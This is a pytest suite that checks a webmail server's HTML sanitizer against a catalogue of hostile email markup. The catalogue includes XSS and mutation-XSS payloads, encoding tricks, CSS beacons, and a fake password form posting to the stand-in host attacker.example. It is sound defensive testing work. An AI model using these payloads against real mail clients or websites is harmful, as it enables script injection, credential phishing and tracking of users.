"""Hostile HTML mail through the webmail's rendering path: every vector of
tests/hostile/ and more of this suite's own (script and handler variants,
SVG and MathML, CSS url() in every spelling, meta refresh, forms, HTML in
UTF-7, quoted-printable and base64, in multipart/alternative and
multipart/related) is delivered by SMTP, found with JMAP Email/get
(htmlBody), and its sanitized document (/jmap/view/..., what the reading
pane's sandboxed frame shows) is parsed here: no script, no handler, no
foreign content or form, no URL that runs or loads anything, and a CSP
that allows no script. tests/integration/test_browser_hostile.py runs the
corpus in Chromium; this suite checks the markup itself, faster and for
more vectors."""

import base64
import html.parser
import quopri
import re
import smtplib
import uuid
from pathlib import Path

import pytest

from conftest import assert_http_serves, new_web

HOSTILE = Path(__file__).resolve().parents[1] / "hostile"

FORBIDDEN_TAGS = {
    "script", "iframe", "frame", "frameset", "object", "embed", "applet", "svg", "math", "form",
    "input", "button", "textarea", "select", "option", "meta", "base", "link", "noscript",
    "template", "portal", "isindex", "keygen", "xmp", "plaintext", "foreignobject", "use",
    "animate", "set", "param", "audio", "video", "source", "track", "canvas",
}
LOADING = {"src", "srcset", "background", "poster", "data", "lowsrc", "dynsrc", "action",
           "formaction", "codebase", "archive", "xlink:href", "ping", "manifest", "longdesc",
           "cite", "icon", "profile", "usemap"}
LINK_SCHEMES = ("http:", "https:", "mailto:", "#")


class Checker(html.parser.HTMLParser):
    """Collects every way the sanitized document could run or load
    something."""

    def __init__(self):
        super().__init__(convert_charrefs=True)
        self.problems = []
        self.in_style = False

    def handle_endtag(self, tag):
        if tag == "style":
            self.in_style = False

    def handle_data(self, data):
        # Style sheets are kept, filtered: nothing in them may load or run.
        if self.in_style:
            squeezed = re.sub(r"\s", "", data).lower()
            for bad in ("url(", "@import", "expression", "behavior", "binding", "javascript:",
                        "image-set", "@font-face", "\\", "<"):
                if bad in squeezed:
                    self.problems.append(f"<style>{data[:60]!r}")

    def handle_starttag(self, tag, attrs):
        if tag == "style":
            self.in_style = True
        if tag in FORBIDDEN_TAGS:
            self.problems.append(f"<{tag}>")
        for name, value in attrs:
            value = value or ""
            squeezed = re.sub(r"[\x00-\x20]", "", value).lower()
            if name.startswith("on"):
                self.problems.append(f"<{tag} {name}>")
            elif name in LOADING:
                if not (tag == "img" and name == "src"
                        and re.match(r"data:image/(png|gif|jpeg|webp);", squeezed)):
                    self.problems.append(f"<{tag} {name}={value[:60]!r}>")
            elif name == "href":
                if tag != "a" or not squeezed.startswith(LINK_SCHEMES):
                    self.problems.append(f"<{tag} href={value[:60]!r}>")
            elif name == "style":
                for bad in ("url(", "expression", "@import", "behavior", "binding",
                            "javascript:", "\\"):
                    if bad in squeezed:
                        self.problems.append(f"<{tag} style={value[:60]!r}>")
            elif name in ("http-equiv", "srcdoc", "is", "xmlns", "formtarget", "target"):
                if not (name == "target" and value == "_blank"):
                    self.problems.append(f"<{tag} {name}>")

    handle_startendtag = handle_starttag

    def handle_comment(self, data):
        # A comment could be re-parsed differently (mutation XSS).
        self.problems.append("<!--comment-->")

    def handle_decl(self, decl):
        if not decl.lower().startswith("doctype"):
            self.problems.append(f"<!{decl[:30]}>")

    def handle_pi(self, data):
        self.problems.append(f"<?{data[:30]}>")

    def unknown_decl(self, data):
        self.problems.append(f"<![{data[:30]}>")


# The head the server wraps every sanitized body in (its own meta and
# style); the mail's markup may only appear inside <body>.
_HEAD = '<!DOCTYPE html><html><head><meta charset="utf-8"><meta name="referrer" content="no-referrer"><style>'


def problems_of(document):
    assert document.startswith(_HEAD), document[:300]
    head, sep, body = document.partition("</head><body>")
    assert sep and "<" not in head[len(_HEAD):].replace("</style>", ""), head
    assert body.endswith("</body></html>"), body[-200:]
    c = Checker()
    c.feed(body[:-len("</body></html>")])
    c.close()
    return c.problems


@pytest.fixture
def server(sec_server):
    return sec_server


@pytest.fixture
def reader(server):
    if getattr(server, "html_reader", None) is None:
        server.html_reader = new_web(server)
    return server.html_reader


def deliver(server, to, subject, content_type, body, cte="base64", extra=""):
    if cte == "base64":
        encoded = base64.encodebytes(body).replace(b"\n", b"\r\n")
    elif cte == "quoted-printable":
        encoded = quopri.encodestring(body).replace(b"\r\n", b"\n").replace(b"\n", b"\r\n")
    else:
        encoded = body
    message = (f"From: Mallory <mallory@attacker.example>\r\nTo: {to}\r\n"
               f"Subject: {subject}\r\nMIME-Version: 1.0\r\n{extra}"
               f"Content-Type: {content_type}\r\n"
               f"Content-Transfer-Encoding: {cte}\r\n\r\n").encode() + encoded
    with smtplib.SMTP("127.0.0.1", server.smtp_port, timeout=30) as s:
        s.sendmail("mallory@attacker.example", [to], message)


def rendered(server, reader, html_bytes, content_type="text/html; charset=utf-8", **kw):
    """Delivers the HTML, finds it by JMAP, and returns (Email, sanitized
    document, response headers) of its first htmlBody part."""
    subject = f"html {uuid.uuid4().hex}"
    deliver(server, reader.user, subject, content_type, html_bytes, **kw)
    eid = reader.wait_for_subject(subject)
    [email] = reader.ok("Email/get", {"ids": [eid], "properties": ["htmlBody", "textBody"]})["list"]
    html_parts = [p for p in email["htmlBody"] if p["type"] == "text/html"]
    assert html_parts, email
    status, h, body = reader.raw("GET", f"/jmap/view/{reader.account}/{eid}/{html_parts[0]['partId']}")
    assert status == 200, (status, body)
    csp = h["content-security-policy"]
    assert "script-src" not in csp and "sandbox" in csp and "default-src 'none'" in csp, csp
    assert "allow-scripts" not in csp and "allow-same-origin" not in csp, csp
    assert h["x-content-type-options"] == "nosniff"
    return email, body.decode("utf-8", "replace"), h


CORPUS = sorted(HOSTILE.glob("*.html"))


@pytest.mark.parametrize("path", CORPUS, ids=[p.stem for p in CORPUS])
def test_hostile_corpus_is_sanitized(server, reader, path):
    _, doc, _ = rendered(server, reader, path.read_bytes())
    assert problems_of(doc) == [], doc[:2000]
    # Nothing loads from the attacker (links may name it; nothing loads it).
    assert "127.0.0.1:9" not in doc
    assert_http_serves(server)


OWN_VECTORS = {
    "tab-in-scheme": b'<a href="jav&#x09;ascript:alert(1)">x</a>',
    "entity-scheme": b'<a href="&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;:alert(1)">x</a>',
    "unclosed-onerror": b"<img src=x onerror=alert(1)//",
    "details-ontoggle": b"<details open ontoggle=alert(1)><summary>x</summary></details>",
    "video-source-onerror": b"<video><source onerror=alert(1)></video>",
    "body-background-js": b'<body background="javascript:alert(1)">x</body>',
    "table-background": b'<table background="https://attacker.example/t.png"><tr><td>x</td></tr></table>',
    "css-url-escaped": b'<div style="background:u\\72l(https://attacker.example/x)">x</div>',
    "css-url-comment": b'<div style="background:url/**/(https://attacker.example/x)">x</div>',
    "css-import-style": b"<style>@import 'https://attacker.example/x.css';</style>x",
    "css-image-set": b'<p style="background-image:image-set(\'https://attacker.example/x\' 1x)">x</p>',
    "css-font-face": b"<style>@font-face{font-family:x;src:url(https://attacker.example/f)}</style>x",
    "meta-refresh-upper": b'<META HTTP-EQUIV="Refresh" CONTENT="0;URL=https://attacker.example/">x',
    "form-password": b'<form action="https://attacker.example/"><input name=p type=password>'
                     b'<button>Log in</button></form>',
    "button-formaction": b'<button formaction="javascript:alert(1)">x</button>',
    "svg-a-xlink": b'<svg><a xlink:href="javascript:alert(1)"><text y="20">x</text></a></svg>',
    "math-maction": b'<math><maction actiontype="statusline" xlink:href="javascript:alert(1)">'
                    b"<mtext>x</mtext></maction></math>",
    "svg-style-mxss": b"<svg><style><img src=x onerror=alert(1)></style></svg>",
    "noscript-title-mxss": b'<noscript><p title="</noscript><img src=x onerror=alert(1)>"></noscript>',
    "object-data": b'<object data="https://attacker.example/x.swf"></object>x',
    "data-html-link": b'<a href="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==">x</a>',
    "srcset": b'<img srcset="https://attacker.example/1x.png 1x, https://attacker.example/2x.png 2x">',
    "base-then-relative": b'<base href="https://attacker.example/"><img src="pixel.png">',
    "iframe-srcdoc": b'<iframe srcdoc="&lt;script&gt;alert(1)&lt;/script&gt;"></iframe>',
    "overlay-link": b'<a href="https://ok.example/" style="position:fixed;top:0;left:0;'
                    b'width:100%;height:100%;z-index:99">x</a>',
    "ping-attribute": b'<a href="https://ok.example/" ping="https://attacker.example/p">x</a>',
    "deep-nesting": b"<div>" * 20000 + b"<script>alert(1)</script>" + b"</div>" * 20000,
    "100k-attributes": b"<p " + b" ".join(b"a%d=1" % i for i in range(100000)) + b" onclick=alert(1)>x",
}


@pytest.mark.parametrize("name", list(OWN_VECTORS))
def test_more_vectors_are_sanitized(server, reader, name):
    _, doc, _ = rendered(server, reader, b"<html><body>" + OWN_VECTORS[name] + b"</body></html>")
    assert problems_of(doc) == [], doc[:2000]
    # Nothing of the attacker's host survives: every vector names it
    # only in something that loads or runs.
    assert "attacker.example" not in doc, doc[:2000]
    assert_http_serves(server)


@pytest.mark.parametrize("content_type,cte,body", [
    ("text/html; charset=utf-7", "7bit",
     b"+ADw-script+AD4-alert(1)+ADw-/script+AD4-+ADw-img src=x onerror=alert(1)+AD4-"),
    ("text/html; charset=utf-16", "base64",
     "<p>x</p><script>alert(1)</script><img src=x onerror=alert(1)>".encode("utf-16")),
    ("text/html; charset=utf-8", "quoted-printable",
     b"<scr=\r\nipt>alert(1)</script><img src=3Dx onerror=3Dalert(1)>"),
    ("text/html; charset=iso-8859-1", "8bit",
     b"<a href=\"java\xadscript:alert(1)\">x</a><img src=x \xa0onerror=alert(1)>"),
    ("text/html; charset=shift_jis", "base64",
     b"<a href='\x82\x60'onmouseover=alert(1)>x</a>"),
], ids=["utf7", "utf16", "qp-split", "latin1-soft-hyphen", "shift-jis"])
def test_encoded_html_is_sanitized_after_decoding(server, reader, content_type, cte, body):
    if cte == "quoted-printable":
        # Sent exactly as written: the soft line break splits the tag.
        email, doc, _ = _rendered_raw_qp(server, reader, content_type, body)
    else:
        email, doc, _ = rendered(server, reader, body, content_type, cte=cte)
    assert problems_of(doc) == [], doc[:2000]
    assert "<script" not in doc.lower()
    assert_http_serves(server)


def _rendered_raw_qp(server, reader, content_type, raw):
    subject = f"qp {uuid.uuid4().hex}"
    message = (f"From: m@attacker.example\r\nTo: {reader.user}\r\nSubject: {subject}\r\n"
               f"MIME-Version: 1.0\r\nContent-Type: {content_type}\r\n"
               "Content-Transfer-Encoding: quoted-printable\r\n\r\n").encode() + raw + b"\r\n"
    with smtplib.SMTP("127.0.0.1", server.smtp_port, timeout=30) as s:
        s.sendmail("m@attacker.example", [reader.user], message)
    eid = reader.wait_for_subject(subject)
    [email] = reader.ok("Email/get", {"ids": [eid], "properties": ["htmlBody"]})["list"]
    part = email["htmlBody"][0]["partId"]
    status, h, body = reader.raw("GET", f"/jmap/view/{reader.account}/{eid}/{part}")
    assert status == 200
    return email, body.decode("utf-8", "replace"), h


def test_html_in_alternative_and_related_with_cid_images(server, reader):
    png = base64.b64decode(
        b"iVBORw0KGgoAAAANSUhEUgAAAAEAAAABCAYAAAAfFcSJAAAADUlEQVR42mNk+M9QDwADhgGAWjR9awAAAABJRU5ErkJggg==")
    svg = b'<svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)"><script>alert(2)</script></svg>'
    html = (b'<p>hi</p><img src="cid:ok@x"><img src="cid:svg@x"><img src="cid:missing@x">'
            b'<img src="cid:../../etc/passwd">')
    body = (b"--alt\r\nContent-Type: text/plain\r\n\r\nplain\r\n"
            b"--alt\r\nContent-Type: multipart/related; boundary=rel\r\n\r\n"
            b"--rel\r\nContent-Type: text/html; charset=utf-8\r\n\r\n" + html + b"\r\n"
            b"--rel\r\nContent-Type: image/png\r\nContent-ID: <ok@x>\r\n"
            b"Content-Transfer-Encoding: base64\r\n\r\n" + base64.b64encode(png) + b"\r\n"
            b"--rel\r\nContent-Type: image/svg+xml\r\nContent-ID: <svg@x>\r\n\r\n" + svg + b"\r\n"
            b"--rel--\r\n--alt--\r\n")
    email, doc, _ = rendered(server, reader, body, "multipart/alternative; boundary=alt", cte="7bit")
    assert problems_of(doc) == [], doc[:2000]
    # The PNG comes inline as data:; the SVG never does (it could script).
    assert "data:image/png;base64," in doc
    assert "image/svg" not in doc and "cid:" not in doc.lower()
    assert_http_serves(server)


def test_remote_images_only_when_asked_and_never_scripts(server, reader):
    email, doc, h = rendered(server, reader,
                             b'<img src="https://tracker.example/p.png" onerror="alert(1)">'
                             b'<img src="javascript:alert(1)"><img src="http://127.0.0.1:9/x">')
    assert "tracker.example" not in doc and problems_of(doc) == []
    # With images asked for: http(s) images only, still no handler or script URL.
    [eid] = reader.ok("Email/query", {"sort": [{"property": "receivedAt", "isAscending": False}],
                                      "limit": 1})["ids"]
    [e] = reader.ok("Email/get", {"ids": [eid], "properties": ["htmlBody"]})["list"]
    status, h, body = reader.raw("GET", f"/jmap/view/{reader.account}/{eid}/"
                                        f"{e['htmlBody'][0]['partId']}?images=1")
    text = body.decode()
    assert status == 200 and "https://tracker.example/p.png" in text, text
    assert "onerror" not in text and "javascript:" not in text.lower()
    assert "script-src" not in h["content-security-policy"]
    assert_http_serves(server)


@pytest.mark.parametrize("bad", [
    "<script>x</script>", "<img src=x onerror=y>", '<a href="javascript:x">', "<svg></svg>",
    '<p style="background:url(x)">', "<style>@import 'x';</style>", "<!-- x -->",
    '<img src="https://attacker.example/x">', '<meta http-equiv="refresh">', "<form></form>",
])
def test_the_checker_itself_finds_each_kind(bad):
    """The checker above would see each kind of leftover."""
    head = _HEAD + "body{}</style></head><body>"
    assert problems_of(head + bad + "</body></html>") != [], bad
